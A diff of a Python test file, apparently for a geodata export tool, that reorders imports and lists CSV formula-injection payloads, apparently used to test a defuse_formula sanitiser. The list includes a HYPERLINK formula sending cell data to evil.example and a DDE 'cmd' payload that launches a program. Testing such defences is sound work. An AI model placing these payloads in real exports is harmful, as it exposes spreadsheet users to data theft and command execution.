@@ -8,9 +8,9 @@ import io
 import geopandas as gpd
 import shapely
 
-from geo.exports.writers import csv_frame, defuse_formula
-from zonasi.testing.reports import report
+from geo.exports import csv_frame, defuse_formula
 from webmap import create_app
+from zonasi.testing.reports import report
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
             "@SUM(1,1)", "\t=1+1", "\r=1+1"]
